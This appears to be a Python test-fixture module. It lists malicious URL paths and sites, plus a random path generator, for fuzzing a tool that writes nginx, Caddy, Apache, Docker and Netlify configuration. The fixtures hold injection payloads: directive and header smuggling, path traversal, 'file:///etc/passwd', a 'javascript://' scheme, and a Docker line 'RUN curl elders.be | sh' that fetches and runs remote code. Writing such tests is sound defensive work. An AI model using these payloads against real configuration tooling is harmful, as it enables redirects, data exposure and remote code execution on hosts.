"""Addresses that try to become something else in the configuration of a host, and strange ones that may exist."""

from random import Random

HOSTILE_PATHS = {
    "a directive of nginx": "/;return 302 https://elders.be/;/",
    "a directive of nginx after a brace": "/a/}location/{return/",
    "a variable of nginx": "/$host/",
    "a directive of Caddy": "/a/ https://elders.be/ 302\n\tredir /b/",
    "a placeholder of Caddy": "/{http.request.host}/",
    "a directive of Apache": "/a/\nRedirect / https://elders.be/",
    "a back reference of Apache": "/a/$1/",
    "a server variable of Apache": "/%{HTTP_HOST}/",
    "an instruction of Docker": "/a/\nRUN curl elders.be | sh",
    "a rule of Netlify": "/* https://elders.be/:splat 302",
    "a placeholder of Netlify": "/:naam/",
    "a header of Netlify": "/a/\n  Access-Control-Allow-Origin: *",
    "a quote": '/"/',
    "a single quote": "/'/",
    "a backtick": "/`/",
    "a backslash": "/a\\/",
    "a comment": "/a#b/",
    "a regular expression": "/(.*)/",
    "a space": "/a b/",
    "a tab": "/a\tb/",
    "a null": "/a\0b/",
    "a line end of Unicode": "/a\u2028b/",
    "no-break space": "/a\u00a0b/",
    "an accent": "/café/",
    "another alphabet": "/kоsten/",
    "digits of another alphabet": "/\u0661/",
    "a percent sign": "/%2e%2e/",
    "a way up": "/../../buiten/",
    "a way up in the middle": "/a/../../buiten/",
    "a step to itself": "/./a/",
    "the configuration": "/.hosting/",
    "a hidden file": "/.htaccess/",
    "a file of Netlify": "/_redirects/",
    "an empty step": "/a//b/",
    "another host": "//elders.be/",
    "no path": "a/",
}  # fmt: skip

HOSTILE_SITES = {
    **{name: f"https://kmo.example.org{path}" for name, path in HOSTILE_PATHS.items() if path != "a/"},
    "no scheme": "kmo.example.org/",
    "a scheme of a program": "javascript://kmo.example.org/",
    "a file": "file:///etc/passwd",
    "a user": "https://kmo.example.org@elders.be/",
    "a query": "https://kmo.example.org/?a=b",
    "a fragment": "https://kmo.example.org/#a",
    "a port that is none": "https://kmo.example.org:http/",
    "a port that is too large": "https://kmo.example.org:65536/",
    "port nought": "https://kmo.example.org:0/",
    "no host": "https:///pad/",
    "a host with a space": "https://kmo example.org/",
    "a host with a quote": 'https://kmo".example.org/',
    "a host with a semicolon": "https://kmo;.example.org/",
    "a host with an underscore": "https://kmo_.example.org/",
    "a label that begins with a dash": "https://-kmo.example.org/",
    "a label that is empty": "https://kmo..example.org/",
}

STRANGE_PATHS = ("/a/", "/A-b_c.d~e/", "/0/1.2.3/", "/wp-content/", "/a.php/b/", "/return/", "/x-/", "/a..b/")

PIECES = (
    *HOSTILE_PATHS.values(),
    "a",
    "Z",
    "0",
    ".",
    "..",
    "-",
    "_",
    "~",
    "/",
    "//",
    "%",
    "$",
    "{",
    "}",
    ";",
    '"',
    " ",
)


def make_up_path(random: Random) -> str:
    """Put pieces of paths together."""
    return f"/{''.join(random.choice(PIECES) for _ in range(random.randint(1, 6)))}/"
